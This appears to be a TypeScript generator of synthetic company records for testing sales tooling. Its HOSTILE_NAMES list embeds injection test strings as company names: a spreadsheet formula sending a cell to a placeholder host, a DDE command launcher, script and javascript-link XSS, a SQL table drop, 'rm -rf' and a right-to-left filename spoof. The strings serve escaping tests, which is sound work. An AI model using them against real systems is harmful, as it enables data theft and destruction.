import { bell, chance, pick, randomOf, weighted, whole } from './random.js';

/** A company that may buy. Empty text stands for what nobody filled in. */
export interface Account {
  readonly id: string;
  readonly name: string;
  readonly owner: string;
  readonly industry: string;
  readonly employees: string;
  readonly country: string;
  readonly revenueEur: string;
  readonly tech: readonly string[];
  /** How well it suits the product, 0 to 1. The files don't say; its fields hint at it, and outcomes follow it. */
  readonly fit: number;
  /** In a country that nobody sells to. */
  readonly outOfRegion: boolean;
}

const INDUSTRIES = [
  ['healthcare', 16, 0.9],
  ['professional_services', 20, 0.85],
  ['education', 12, 0.7],
  ['retail', 16, 0.5],
  ['software', 14, 0.45],
  ['manufacturing', 12, 0.3],
  ['public_sector', 6, 0.2],
  ['agriculture', 4, 0.1],
] as const;
const COUNTRIES = [
  ['DE', 30],
  ['US', 28],
  ['AT', 8],
  ['CH', 8],
  ['GB', 10],
  ['FR', 6],
  ['NL', 4],
  ['BR', 2],
  ['IN', 2],
  ['AU', 2],
] as const;
const OUT_OF_REGION = ['BR', 'IN', 'AU'];
const TECH = ['google_workspace', 'microsoft_365', 'salesforce', 'hubspot', 'slack', 'calendly', 'sap'] as const;
const FIRST = 'Nord Blue Alt Clear Stein River Linden Harbor Kern Summit Falken Maple Grün Œuvre Północ'.split(' ');
const SECOND = 'licht field werk path hof stone clinic partners schule care retail labs consulting haus'.split(' ');
const FORM = ['GmbH', 'Inc.', 'AG', 'LLC', 'Ltd', 'SAS', 'B.V.', 'GmbH & Co. KG'];

/** Names as somebody once typed or pasted them: each harmless as text, each trouble where it is pasted unescaped. */
const HOSTILE_NAMES = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Invoice")',
  '+49 30 | "Umzüge" | Müller & Söhne',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '<script>alert(1)</script> Ltd',
  '<b>Bold</b> & Co.',
  "Robert'); DROP TABLE leads;-- GmbH",
  '`rm -rf` Consulting',
  '[click](javascript:alert(1))',
  'Tab\there, "quotes", and\na second line',
  'מרפאת השרון',
  '株式会社スケジュール',
  '‮gnp.eciovni GmbH',
];

const fitOf = (industry: number, employees: number, tech: readonly string[]): number => {
  const size = employees >= 50 && employees <= 1000 ? 0.9 : employees >= 20 && employees <= 3000 ? 0.5 : 0.15;
  const tools = tech.includes('google_workspace') || tech.includes('microsoft_365') ? 0.7 : 0.3;
  return 0.45 * industry + 0.4 * size + 0.15 * tools;
};

const account = (seed: string, number: number): Account => {
  const random = randomOf(`${seed}/account/${String(number)}`);
  const [industry, , industryFit] = weighted(
    random,
    INDUSTRIES.map((one) => [one, one[1]] as const),
  );
  const employees = Math.max(1, Math.round(Math.exp(4.9 + 1.35 * bell(random))));
  const tech = TECH.filter(() => chance(random, 0.32));
  const country = weighted(random, COUNTRIES);
  const revenue = employees * whole(random, 60, 190) * 1000;
  const hostile = number % 150 === 75 ? HOSTILE_NAMES[Math.floor(number / 150)] : undefined;
  const blank = (probability: number, text: string): string => (chance(random, probability) ? '' : text);
  return {
    id: `A${String(number).padStart(4, '0')}`,
    name: hostile ?? `${pick(random, FIRST)}${pick(random, SECOND)} ${pick(random, FORM)}`,
    owner: blank(0.06, pick(random, ['rep_frank', 'rep_grace', 'rep_hugo'])),
    industry: blank(0.05, industry),
    employees: blank(0.08, String(employees)),
    country: blank(0.02, country),
    revenueEur: blank(0.15, String(revenue)),
    tech: chance(random, 0.07) ? [] : tech,
    fit: fitOf(industryFit, employees, tech),
    outOfRegion: OUT_OF_REGION.includes(country),
  };
};

/** The companies of the example, by number. */
export const accountsOf = (seed: string, count: number): readonly Account[] =>
  Array.from({ length: count }, (_, i) => account(seed, i + 1));
